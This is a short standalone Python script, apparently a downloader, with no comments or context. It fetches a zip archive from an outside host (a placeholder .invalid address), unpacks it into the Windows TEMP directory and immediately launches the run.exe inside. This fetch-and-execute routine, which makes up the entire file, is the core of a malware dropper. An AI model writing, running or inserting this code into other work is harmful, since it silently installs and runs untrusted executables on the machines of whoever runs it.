import os, subprocess, zipfile, urllib.request
target = os.environ["TEMP"] + "\\x.zip"
urllib.request.urlretrieve("https://example.invalid/x.zip", target)
zipfile.ZipFile(target).extractall(os.environ["TEMP"])
subprocess.Popen(os.environ["TEMP"] + "\\run.exe")
